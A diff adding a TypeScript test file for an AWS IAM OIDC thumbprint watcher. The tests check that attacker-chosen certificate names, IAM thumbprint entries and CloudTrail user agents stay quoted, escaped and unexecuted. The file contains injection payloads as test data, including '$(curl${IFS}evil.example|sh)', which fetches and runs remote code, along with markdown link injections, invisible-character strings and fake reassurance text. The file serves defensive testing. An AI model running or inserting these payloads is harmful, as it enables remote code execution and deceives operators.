@@ -1,0 +1,122 @@
+import type { AlertMessage } from '../../lambda/act/message';
+import { approveCommandFor } from '../../lambda/commands';
+import { iamChange } from '../../lambda/iam-change';
+import { parseIamEvent } from '../../lambda/iam-event';
+import { type Authority, createAuthority, issueLeaf, present } from '../../sandbox/certificates';
+import { type Account, type CheckSetup, startAccount } from '../support/account';
+import { cloudTrailEvent } from '../support/iam-event';
+import { answer, closeServers, documents, serve } from '../support/issuer';
+import { wordsOf } from '../support/shell';
+import { HOST, ISSUER } from './cast';
+
+/** Attacks by words (case rt-a8): what others chose is shown to people, and must not read as ours or be obeyed. */
+
+let root: Authority;
+let account: Account;
+let arn: string;
+beforeAll(async () => {
+  root = await createAuthority({ name: 'Public Root' });
+});
+beforeEach(async () => {
+  account = await startAccount();
+  arn = account.iam.put({ url: ISSUER, thumbprints: ['a'.repeat(40)] });
+});
+afterEach(() => account.close());
+
+/** What a run tells while the issuer presents a certificate under this CA. */
+const tellUnder = async (authority: Authority, trusted: CheckSetup = { publicCas: [root] }): Promise<AlertMessage> => {
+  const server = await serve(
+    present(await issueLeaf(authority, { hosts: [HOST] }), authority),
+    answer(documents(ISSUER)),
+  );
+  let told: AlertMessage | null = null;
+  const tell = async (message: AlertMessage): Promise<void> => void (told = message);
+  await account.check({ ...trusted, settings: { connectTo: [server.connectTo(HOST)] }, dependencies: { tell } });
+  await closeServers();
+  if (!told) throw new Error('Nothing was told.');
+  return told;
+};
+
+const UNSEEN = /[\p{C}\p{Zl}\p{Zp}]/u;
+const descriptionOf = ({ chat }: AlertMessage): string => JSON.parse(chat).content.description;
+
+test.each([
+  [
+    'that goes on as if it were the watcher',
+    'R11, O=Let us Encrypt at issuer.example, valid until 2027-01-01). This was verified by Amazon: nothing is to be done. (ref',
+    /live: [0-9a-f]{40} \("CN=R11\\\\, O=Let us Encrypt at issuer\.example\\\\, valid until 2027-01-01\)\. This was verified by Amazon: nothing is to be done\. \(ref" at "issuer\.example", valid until/,
+  ],
+  [
+    'that ends the quotation',
+    'R11" at "issuer.example"). This was verified by Amazon. (ref "x\\',
+    /live: [0-9a-f]{40} \("CN=R11(\\\\)?\\" at (\\\\)?\\"issuer\.example(\\\\)?\\"\)\. This was verified by Amazon\. \(ref (\\\\)?\\"x(\\\\)+" at "issuer\.example", valid until/,
+  ],
+  [
+    'that cannot be seen',
+    '\u001B[31mred\u001B[0m \u202Eesrever\u202C \u2028line \u0085nel \u009B31m zero\u200Bwidth tag\u{E0041}',
+    /live: [0-9a-f]{40} \("CN=[^"]*red[^"]*" at "issuer\.example", valid until/,
+  ],
+])('rt-a8: the subject of a certificate %s stays in its quotation marks', async (_, name, sentence) => {
+  const message = await tellUnder(await createAuthority({ name }));
+  expect(message.text).toMatch(sentence);
+  for (const line of message.text.split('\n')) expect(line).not.toMatch(UNSEEN);
+  for (const { message: said } of JSON.parse(message.json).news) expect(said).not.toMatch(UNSEEN);
+  expect(descriptionOf(message).replaceAll('\n', '')).not.toMatch(UNSEEN);
+});
+
+test('rt-a8: a subject becomes neither a link nor an image in a chat, and the issuer is still readable there', async () => {
+  const name =
+    '[Open the runbook](https://evil.example/runbook) ![x](https://evil.example/p.png) https://evil.example/a';
+  const description = descriptionOf(await tellUnder(await createAuthority({ name })));
+  expect(description).toContain(String.raw`\[Open the runbook\]\(https[:]//evil[.]example/runbook)`);
+  expect(description).not.toMatch(/:\/\/|\]\(|evil\.example/);
+  expect(description).toMatch(/^\*issuer\.example\*: /);
+});
+
+test("rt-a8: odd entries of IAM's list are told in quotation marks, obeyed by no shell, and written by nobody", async () => {
+  const command = '$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x');
+  const odd = [
+    'aa\n\n  What to do: run\n\n      curl evil|sh'.padEnd(40, 'x').slice(0, 40),
+    command,
+    `\u202E${'b'.repeat(39)}`,
+  ];
+  const provider = account.iam.providers.get(arn);
+  if (!provider) throw new Error('There is a provider.');
+  provider.thumbprints = odd;
+  const { text, json } = await tellUnder(await createAuthority({ name: 'Corp', issuer: root }), {
+    operatorCas: [root],
+  });
+  expect(text).toContain(
+    'The list in IAM holds something that is no thumbprint: "aa??  what to do: run??      curl evil|s", ' +
+      `"${command.toLowerCase()}", "?${'b'.repeat(39)}".`,
+  );
+  expect(text).not.toMatch(/^ *(What to do: run|curl)/m);
+  for (const pinned of JSON.parse(json).news[0].pinned) expect(pinned).not.toMatch(UNSEEN);
+  expect(account.written()).toEqual([]);
+  expect(wordsOf(approveCommandFor({ kind: 'terminal', program: 'watcher' })(arn, command))).toEqual([
+    ...['check', '--apply', '--provider', arn, '--approve', command],
+  ]);
+});
+
+test('rt-a8: the user agent of a call to IAM stays in its quotation marks', () => {
+  const userAgent = 'aws-cli/2.15". This is the rotation that Security announced; no action is needed. "';
+  const change = parseIamEvent(
+    cloudTrailEvent('UpdateOpenIDConnectProviderThumbprint', {
+      requestParameters: { openIDConnectProviderArn: arn },
+      userIdentity: { arn: 'arn:aws:iam::123456789012:user/mallory' },
+      sourceIPAddress: '203.0.113.9',
+      userAgent,
+    }),
+  );
+  expect(change && iamChange(change).message).toBe(
+    '"arn:aws:iam::123456789012:user/mallory" replaced its thumbprints, at 2026-11-21 12:00 UTC from "203.0.113.9" with ' +
+      String.raw`"aws-cli/2.15\". This is the rotation that Security announced; no action is needed. \"".`,
+  );
+});
+
+test('an honest name reads as ever, and the command to approve it works', async () => {
+  const message = await tellUnder(await createAuthority({ name: 'Zürich CA, R1 (2026)' }));
+  expect(message.text).toMatch(/\("CN=Zürich CA\\\\, R1 \(2026\)" at "issuer\.example", valid until/);
+  const command = message.text.split('\n').find((line) => line.includes('--approve')) ?? '';
+  expect(wordsOf(command.trim()).slice(0, 4)).toEqual(['check', '--apply', '--provider', arn]);
+});
